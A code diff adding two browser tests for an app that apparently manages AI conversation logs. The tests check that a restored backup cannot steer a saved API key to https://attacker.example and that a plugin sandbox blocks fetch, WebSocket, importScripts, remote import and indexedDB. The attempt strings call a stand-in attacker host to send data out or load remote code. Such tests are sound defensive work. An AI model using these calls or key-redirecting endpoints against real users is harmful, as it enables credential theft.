@@ -113,3 +113,80 @@ test('a restored backup\'s hook is disabled until enabled, and then reaches neit
   }
   expect(heard).toEqual([]);
 });
+
+test('a restored backup cannot redirect the remembered key: its endpoints apply only when confirmed, and the key is refused anywhere but where it was entered', async ({ app, page }, testInfo) => {
+  test.slow();
+  const heard: string[] = [];
+  await page.context().route(/attacker\.example/, async (route) => {
+    heard.push(route.request().url());
+    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'ok' });
+  });
+  await app.waitForDemo();
+  await page.getByTestId('settings.open').click();
+  await page.getByTestId('settings.kind.remote').check();
+  await page.getByTestId('settings.remote.preset').selectOption('openai');
+  await page.getByTestId('settings.remote.model').fill('gpt-4o-mini');
+  await page.getByTestId('settings.remote.key').fill(KEY);
+  await page.getByTestId('settings.remote.remember').check();
+  // The backup's author pointed the openai preset elsewhere: the key is not offered there.
+  await page.getByTestId('settings.remote.base-url').fill('https://attacker.example/v1');
+  await expect(page.getByTestId('settings.remote.key')).toHaveValue('');
+  await expect(page.getByTestId('settings.remote.key-again')).toContainText('saved for https://api.openai.com');
+  await page.getByTestId('settings.close').click();
+  await page.waitForTimeout(600);
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('library.backup').click()]);
+  const file = testInfo.outputPath('redirecting-backup.jsonl');
+  await download.saveAs(file);
+  await page.getByTestId('settings.open').click();
+  await page.getByTestId('settings.remote.base-url').fill('https://api.openai.com/v1');
+  await expect(page.getByTestId('settings.remote.key')).toHaveValue(KEY);
+  await page.getByTestId('settings.close').click();
+
+  // Restored as data only: this browser's endpoint stays.
+  await page.getByTestId('library.restore-input').setInputFiles(file);
+  await expect(page.getByTestId('library.backup-status')).toContainText('Your provider settings were kept', { timeout: 30_000 });
+  await page.getByTestId('settings.open').click();
+  await expect(page.getByTestId('settings.remote.base-url')).toHaveValue('https://api.openai.com/v1');
+  await page.getByTestId('settings.close').click();
+
+  // "Restore settings too": the endpoint is shown first; applied only when confirmed.
+  await page.getByTestId('library.restore-settings').check();
+  await page.getByTestId('library.restore-input').setInputFiles(file);
+  await expect(page.getByTestId('library.restore-endpoints')).toContainText('https://attacker.example/v1');
+  await page.getByTestId('library.restore-endpoints.apply').click();
+  await expect(page.getByTestId('library.backup-status')).toContainText('provider settings were applied', { timeout: 30_000 });
+
+  // Even then the remembered key does not follow the base URL.
+  await page.reload();
+  await openClaude(page);
+  await page.getByTestId('tab.compact').click();
+  await page.getByTestId('compact.strategy.pi').check();
+  await expect(page.getByTestId('compact.run')).toBeEnabled({ timeout: 30_000 });
+  await page.getByTestId('compact.run').click();
+  await expect(page.getByTestId('compact.error')).toContainText('was saved for https://api.openai.com, but this request goes to https://attacker.example, so it was not sent', { timeout: 30_000 });
+  expect(heard).toEqual([]);
+});
+
+test('a custom-strategy plugin has no network and no storage either: each attempt fails and is shown', async ({ app, page }) => {
+  const heard: string[] = [];
+  await page.context().route(/attacker\.example/, async (route) => {
+    heard.push(route.request().url());
+    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'ok' });
+  });
+  await app.importFile(CLAUDE);
+  await page.getByTestId('tab.compact').click();
+  await page.getByTestId('compact.strategy.custom').check();
+  const attempts: Array<[string, string]> = [
+    ['fetch("https://attacker.example/p")', 'fetch is not defined'],
+    ['new XMLHttpRequest()', 'XMLHttpRequest is not defined'],
+    ['new WebSocket("wss://attacker.example/ws")', 'WebSocket is not defined'],
+    ['importScripts("https://attacker.example/x.js")', 'importScripts is not defined'],
+    ['indexedDB.open("foldlab-secrets")', 'indexedDB is not defined'],
+    ['import("https://attacker.example/x.js")', 'uses `import`'],
+  ];
+  for (const [call, expected] of attempts) {
+    await page.getByTestId('compact.plugin').fill(`export default function plan(entries) {\n  ${call};\n  return { keep: [] };\n}`);
+    await expect(page.getByTestId('plan.error')).toContainText(expected, { timeout: 30_000 });
+  }
+  expect(heard).toEqual([]);
+});
